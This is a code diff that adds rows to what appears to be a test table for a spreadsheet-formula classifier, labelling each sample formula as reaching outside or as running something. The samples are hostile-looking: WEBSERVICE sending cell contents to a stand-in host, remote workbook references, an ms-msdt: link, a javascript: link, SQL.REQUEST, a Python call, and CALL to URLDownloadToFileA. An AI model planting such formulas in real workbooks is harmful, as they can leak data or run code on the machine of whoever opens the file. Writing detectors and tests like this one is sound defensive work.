@@ -67,6 +67,13 @@ _EXCEL: Rows = (
         OUTSIDE,
     ),
     ("web service", xlsx_saying('_xlfn.WEBSERVICE("http://e.test/"&amp;A1)'), OUTSIDE),
+    ("web picture", xlsx_saying('_xlfn.IMAGE("http://e.test/x.png")'), OUTSIDE),
+    ("sheet on a share", xlsx_saying("'\\\\e.test\\a\\[b.xlsx]S'!A1"), OUTSIDE),
+    ("sheet on the web", xlsx_saying("'https://e.test/[b.xlsx]S'!A1"), OUTSIDE),
+    ("link that runs", xlsx_saying('HYPERLINK("ms-msdt:/id x","click")'), ACTIVE),
+    ("script in a link", xlsx_saying('IF(A1,HYPERLINK( "javascript:x"),1)'), ACTIVE),
+    ("data base request", xlsx_saying('SQL.REQUEST("DSN=x")'), ACTIVE),
+    ("program in Python", xlsx_saying("_xlfn._xlws.PY(0,1)"), ACTIVE),
     ("real-time data", xlsx_saying('RTD("server",,"x")'), ACTIVE),
     ("call", xlsx_saying('CALL("urlmon","URLDownloadToFileA","JJ")'), ACTIVE),
     (
